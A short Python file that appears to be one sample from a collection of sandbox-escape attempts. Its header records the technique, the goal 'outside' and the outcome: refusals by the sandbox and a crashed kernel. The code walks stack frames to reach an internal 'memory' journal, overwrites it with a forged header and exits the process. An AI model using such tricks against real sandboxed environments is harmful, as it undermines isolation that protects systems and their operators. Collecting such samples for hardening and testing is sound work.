# origin: own
# technique: a journal with half a million empty results
# goal: outside
# outcome: refused:attribute-not-allowed | refused:import-not-allowed | refused:underscore-attribute
# kernel: CRASHED
import os
import struct
import sys
def find_journal():
    back = sys._getframe()
    while back is not None:
        if "memory" in back.f_locals:
            return back.f_locals["memory"]
        back = back.f_back


def on_execute_post_login(event, api):
    memory = find_journal()
    size = len(memory)
    sequence = int.from_bytes(memory[:8], sys.byteorder)
    memory[28:size] = bytes(size - 28)
    memory[:28] = struct.pack("=QQIII", sequence, 0, size - 28 - (size - 28) % 4, (size - 28) // 4, 0)
    os._exit(1)
